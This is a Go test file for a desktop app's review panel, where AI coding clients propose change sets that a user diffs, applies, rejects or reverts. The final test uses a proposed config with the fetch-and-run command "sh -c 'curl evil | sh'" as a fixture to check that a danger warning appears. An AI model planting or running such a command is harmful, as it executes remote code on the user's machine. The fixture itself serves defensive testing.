package review

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"fyne.io/fyne/v2"
	"fyne.io/fyne/v2/dialog"
	"fyne.io/fyne/v2/test"
	"fyne.io/fyne/v2/theme"
	"fyne.io/fyne/v2/widget"

	"trestle/app"
	"trestle/app/changeset"
)

const (
	libGo  = "package lib\n"
	mainGo = "package main\n\nimport \"fmt\"\n\nfunc main() {\n\tfmt.Println(\"hi\")\n}\n"
)

// testHost is the window around the review in these tests: a real Fyne
// test window for dialogs and a real project whose files are read from
// disk (the window's editor buffers are ui's tests).
type testHost struct {
	win     fyne.Window
	project *app.Project
	status  []string            // every status message, in order
	written []map[string]string // every FilesWritten
	titles  int                 // TitleChanged calls
}

func (h *testHost) Window() fyne.Window        { return h.win }
func (h *testHost) ShowDialog(d dialog.Dialog) { d.Show() }
func (h *testHost) Status(msg string)          { h.status = append(h.status, msg) }
func (h *testHost) Notify(msg string)          { fyne.Do(func() { h.Status(msg) }) }
func (h *testHost) TitleChanged()              { h.titles++ }
func (h *testHost) FilesWritten(before map[string]string) {
	fyne.Do(func() { h.written = append(h.written, before) })
}

func (h *testHost) EscapeTop() bool {
	top := h.win.Canvas().Overlays().Top()
	if top != nil {
		h.win.Canvas().Overlays().Remove(top)
	}
	return top != nil
}

func (h *testHost) CurrentText(_ context.Context, rel string) (string, bool, error) {
	return diskRead(h.project)(rel)
}

// lastStatus is the newest status message, or "".
func (h *testHost) lastStatus() string {
	if len(h.status) == 0 {
		return ""
	}
	return h.status[len(h.status)-1]
}

// newChangesHost is a test host on a new project with a store in a temp
// folder and a Manager on it, the view not yet made.
func newChangesHost(t *testing.T) (*testHost, *changeset.Manager, string) {
	t.Helper()
	a := test.NewTempApp(t)
	root := t.TempDir()
	for name, text := range map[string]string{"main.go": mainGo, "lib/lib.go": libGo, "go.mod": "module example.com/demo\n"} {
		abs := filepath.Join(root, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(abs), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(abs, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	p, err := app.OpenProject(root)
	if err != nil {
		t.Fatal(err)
	}
	h := &testHost{win: a.NewWindow("review"), project: p}
	h.win.Resize(fyne.NewSize(1100, 720))
	t.Cleanup(h.win.Close)
	path := filepath.Join(t.TempDir(), "state.db")
	store, err := app.OpenStore(path)
	if err != nil {
		t.Fatal(err)
	}
	return h, changeset.NewManager(store, p), path
}

// startChanges makes the view with the poll every every, waits for its
// first list, then runs its work inline (the store watcher would reload on
// the test's own applies from its goroutine, which the test driver runs
// inline beside the test).
func startChanges(t *testing.T, h *testHost, m *changeset.Manager, every time.Duration) *View {
	t.Helper()
	v := startChangesWatched(t, h, m, every)
	v.RunInline()
	return v
}

// startChangesWatched is startChanges with the store watcher left running.
func startChangesWatched(t *testing.T, h *testHost, m *changeset.Manager, every time.Duration) *View {
	t.Helper()
	old := SetPollEvery(every)
	t.Cleanup(func() { SetPollEvery(old) })
	v := New(h, m)
	h.win.SetContent(v.item.Content)
	v.Start()
	t.Cleanup(func() { v.stopPolling(); v.busy.Wait() })
	waitRefreshed(t, v)
	v.async = func(fn func()) { fn() } // the test driver runs fyne.Do inline: stay on one goroutine
	return v
}

func waitRefreshed(t *testing.T, v *View) {
	t.Helper()
	select {
	case <-v.refreshed:
	case <-time.After(5 * time.Second):
		t.Fatal("the change sets list was not shown within 5s")
	}
}

// diskRead reads project files from disk.
func diskRead(p *app.Project) changeset.ReadFunc {
	return func(rel string) (string, bool, error) {
		ft, err := p.ReadFile(rel)
		if errors.Is(err, app.ErrNotFound) {
			return "", false, nil
		}
		return ft.Text, err == nil, err
	}
}

// proposeTwo proposes an edit of main.go and a replacement of lib/lib.go.
func proposeTwo(t *testing.T, m *changeset.Manager) changeset.ChangeSet {
	t.Helper()
	cs, err := m.Propose(diskRead(m.Project()), changeset.Proposal{
		Title: "Say hello", Client: "claude-code", Description: "Makes **main** say hello.",
		Changes: []changeset.Change{
			{Path: "main.go", Action: changeset.ActionEdit, Edits: []changeset.Edit{{OldText: `"hi"`, NewText: `"hello"`}}},
			{Path: "lib/lib.go", Action: changeset.ActionReplace, Content: libGo + "\n// Answer is 42.\nconst Answer = 42\n"},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	return cs
}

func readProject(t *testing.T, h *testHost, rel string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(h.project.Root, rel))
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// detailGrids returns the diff grids of the detail.
func detailGrids(v *View) []*widget.TextGrid {
	var out []*widget.TextGrid
	for _, o := range test.LaidOutObjects(v.detail) {
		if g, ok := o.(*widget.TextGrid); ok {
			out = append(out, g)
		}
	}
	return out
}

func TestChangeSetsListAndDiff(t *testing.T) {
	h, m, _ := newChangesHost(t)
	cs := proposeTwo(t, m)
	v := startChanges(t, h, m, time.Hour)

	if len(v.sets) != 1 || v.item.Text != "Change Sets (1)" {
		t.Fatalf("sets %d, tab %q", len(v.sets), v.item.Text)
	}
	row := setRowText(v.sets[0], time.Now())
	for _, want := range []string{"pending", cs.ID, "claude-code", "just now", "+4 −1"} {
		if !strings.Contains(row, want) {
			t.Errorf("row %q lacks %q", row, want)
		}
	}
	if !v.apply.Disabled() {
		t.Error("Apply is enabled with nothing selected")
	}
	v.list.TypedKey(&fyne.KeyEvent{Name: fyne.KeyReturn}) // Enter selects the focused row
	if v.shown != cs.ID || v.apply.Disabled() || v.reject.Disabled() || !v.revert.Disabled() {
		t.Fatalf("after Enter: shown %q, apply disabled %v", v.shown, v.apply.Disabled())
	}
	grids := detailGrids(v)
	if len(grids) != 2 || len(v.checks) != 2 {
		t.Fatalf("%d grids, %d checks; want 2 each", len(grids), len(v.checks))
	}
	success, fail := theme.Color(theme.ColorNameSuccess), theme.Color(theme.ColorNameError)
	var sawAdd, sawDel bool
	for _, r := range grids[0].Rows {
		text := diffRowString(r)
		switch {
		case strings.Contains(text, `+    fmt.Println("hello")`):
			sawAdd = r.Style != nil && r.Style.TextColor() == success
		case strings.Contains(text, `-    fmt.Println("hi")`):
			sawDel = r.Style != nil && r.Style.TextColor() == fail
		}
	}
	if !sawAdd || !sawDel {
		t.Errorf("main.go diff: green addition %v, red removal %v\n%v", sawAdd, sawDel, diffGridLines(grids[0]))
	}
}

func diffGridLines(g *widget.TextGrid) []string {
	var out []string
	for _, r := range g.Rows {
		out = append(out, diffRowString(r))
	}
	return out
}

func TestChangeSetsApplyOneFile(t *testing.T) {
	h, m, _ := newChangesHost(t)
	cs := proposeTwo(t, m)
	v := startChanges(t, h, m, time.Hour)
	v.list.Select(0)
	if !v.copyMessage.Disabled() {
		t.Error("a pending set offers its commit message")
	}
	test.Tap(v.checks["lib/lib.go"])
	test.Tap(v.apply)
	v.busy.Wait()

	if got := readProject(t, h, "main.go"); !strings.Contains(got, `"hello"`) {
		t.Errorf("main.go on disk:\n%s", got)
	}
	if got := readProject(t, h, "lib/lib.go"); got != libGo {
		t.Errorf("lib/lib.go, left out, was written:\n%s", got)
	}
	if len(h.written) != 1 || len(h.written[0]) != 1 || h.written[0]["main.go"] != mainGo {
		t.Errorf("the window heard of writes %q; want main.go from its base", h.written)
	}
	got, err := m.Get(cs.ID)
	if err != nil || got.State != changeset.StatePartlyApplied {
		t.Fatalf("state %q, %v; want partly applied", got.State, err)
	}
	if v.sets[0].State != changeset.StatePartlyApplied || v.revert.Disabled() || !v.apply.Disabled() {
		t.Errorf("view: state %q, revert disabled %v, apply disabled %v", v.sets[0].State, v.revert.Disabled(), v.apply.Disabled())
	}
	test.Tap(v.copyMessage)
	want := "Say hello\n\nMakes **main** say hello.\n\nProposed by claude-code through Trestle (" + cs.ID + ").\n"
	if got := fyne.CurrentApp().Clipboard().Content(); got != want {
		t.Errorf("Copy Commit Message gave %q, want %q", got, want)
	}

	test.Tap(v.revert)
	v.busy.Wait()
	if got := readProject(t, h, "main.go"); got != mainGo {
		t.Errorf("main.go after revert:\n%s", got)
	}
	if len(h.written) != 2 || !strings.Contains(h.written[1]["main.go"], `"hello"`) {
		t.Errorf("the window heard of writes %q; want main.go from the applied text", h.written)
	}
}

func TestChangeSetsConflictNamesTheFile(t *testing.T) {
	h, m, _ := newChangesHost(t)
	proposeTwo(t, m)
	v := startChanges(t, h, m, time.Hour)
	v.list.Select(0)
	if err := os.WriteFile(filepath.Join(h.project.Root, "lib/lib.go"), []byte("package lib // mine\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	test.Tap(v.apply)
	v.busy.Wait()

	if got := readProject(t, h, "main.go"); got != mainGo {
		t.Errorf("main.go was written despite the conflict:\n%s", got)
	}
	msg := overlayText(h.win)
	if !strings.Contains(msg, "lib/lib.go was changed") || strings.Contains(msg, "main.go was") {
		t.Errorf("dialog says %q; want lib/lib.go named, main.go not", msg)
	}
	if v.sets[0].State != changeset.StateConflict || !strings.Contains(v.checks["lib/lib.go"].Text, "[conflict]") {
		t.Errorf("state %q, lib check %q", v.sets[0].State, v.checks["lib/lib.go"].Text)
	}
}

// overlayText is the text of every label and rich text in the top overlay.
func overlayText(win fyne.Window) string {
	top := win.Canvas().Overlays().Top()
	if top == nil {
		return ""
	}
	var b strings.Builder
	for _, o := range test.LaidOutObjects(top) {
		switch o := o.(type) {
		case *widget.Label:
			b.WriteString(o.Text + "\n")
		case *widget.RichText:
			b.WriteString(o.String() + "\n")
		}
	}
	return b.String()
}

func TestChangeSetsRejectStoresReason(t *testing.T) {
	h, m, _ := newChangesHost(t)
	cs := proposeTwo(t, m)
	v := startChanges(t, h, m, time.Hour)
	v.list.Select(0)
	test.Tap(v.reject)
	entry, ok := h.win.Canvas().Focused().(*escEntry)
	if !ok {
		t.Fatalf("the reject dialog's reason has no focus: %T", h.win.Canvas().Focused())
	}
	test.Type(entry, "not now")
	entry.TypedKey(&fyne.KeyEvent{Name: fyne.KeyReturn}) // Enter rejects
	v.busy.Wait()

	got, err := m.Get(cs.ID)
	if err != nil || got.State != changeset.StateRejected || got.Reason != "not now" {
		t.Fatalf("stored %q reason %q, %v", got.State, got.Reason, err)
	}
	if v.item.Text != changesTitle || !v.apply.Disabled() {
		t.Errorf("tab %q, apply disabled %v", v.item.Text, v.apply.Disabled())
	}
}

// TestChangeSetsFromAnotherProcessAppear: a proposal stored by another
// process shows up through the store watcher; the fallback poll is an hour,
// so nothing polls.
func TestChangeSetsFromAnotherProcessAppear(t *testing.T) {
	h, m, path := newChangesHost(t)
	v := startChangesWatched(t, h, m, time.Hour)
	if len(v.sets) != 0 {
		t.Fatalf("sets before any proposal: %d", len(v.sets))
	}
	other, err := app.OpenStore(path) // as a headless trestle --mcp would
	if err != nil {
		t.Fatal(err)
	}
	cs := proposeTwo(t, changeset.NewManager(other, h.project))
	waitRefreshed(t, v)
	v.stopPolling()

	if len(v.sets) != 1 || v.sets[0].ID != cs.ID || v.item.Text != "Change Sets (1)" {
		t.Fatalf("sets %v, tab %q", v.sets, v.item.Text)
	}
	if msg := h.lastStatus(); !strings.Contains(msg, "claude-code proposed Say hello") {
		t.Errorf("status %q", msg)
	}
}

// TestChangeSetsStaleWhenTheBufferChanges: the text an editor holds is
// compared with the base of the pending sets that touch it.
func TestChangeSetsStaleWhenTheBufferChanges(t *testing.T) {
	h, m, _ := newChangesHost(t)
	proposeTwo(t, m)
	v := startChanges(t, h, m, time.Hour)
	v.BufferChanged("main.go", mainGo) // the buffer is the base: nothing changes
	if v.sets[0].State != changeset.StatePending {
		t.Fatalf("an unchanged buffer made the set %q", v.sets[0].State)
	}
	v.BufferChanged("main.go", "// typed\n"+mainGo)
	if v.sets[0].State != changeset.StateStale {
		t.Fatalf("state %q after typing, want stale", v.sets[0].State)
	}
}

func TestChangeSetsStaleOnFileChange(t *testing.T) {
	h, m, _ := newChangesHost(t)
	proposeTwo(t, m)
	v := startChanges(t, h, m, time.Hour)
	v.FilesChanged([]string{"lib/lib.go"})
	v.busy.Wait()
	if v.sets[0].State != changeset.StateStale {
		t.Fatalf("state %q, want stale", v.sets[0].State)
	}
}

// TestChangeSetsFlagWhatRunsInTheDetail: a set that changes .trestle.json
// is shown with a warning in the danger colour above its diffs, read whole
// from the store (lists hold no file bodies).
func TestChangeSetsFlagWhatRunsInTheDetail(t *testing.T) {
	h, m, _ := newChangesHost(t)
	cs, err := m.Propose(diskRead(m.Project()), changeset.Proposal{Title: "Tidy the config", Client: "agent",
		Changes: []changeset.Change{{Path: ".trestle.json", Action: changeset.ActionCreate,
			Content: `{"selections":{"default":{"env":{"CC":"sh -c 'curl evil | sh'"}}}}` + "\n"}}})
	if err != nil {
		t.Fatal(err)
	}
	v := startChanges(t, h, m, time.Hour)
	v.show(cs.ID)
	var warned bool
	for _, o := range test.LaidOutObjects(v.detail) {
		if l, ok := o.(*widget.Label); ok && l.Importance == widget.DangerImportance && strings.Contains(l.Text, "Changes what runs: .trestle.json") {
			warned = true
		}
	}
	if !warned {
		t.Error("no danger-coloured 'changes what runs' warning in the detail")
	}
	grids := detailGrids(v)
	if len(grids) != 1 || !strings.Contains(grids[0].Text(), "curl evil") {
		t.Fatalf("the diff does not show the new configuration: %d grids", len(grids))
	}
}
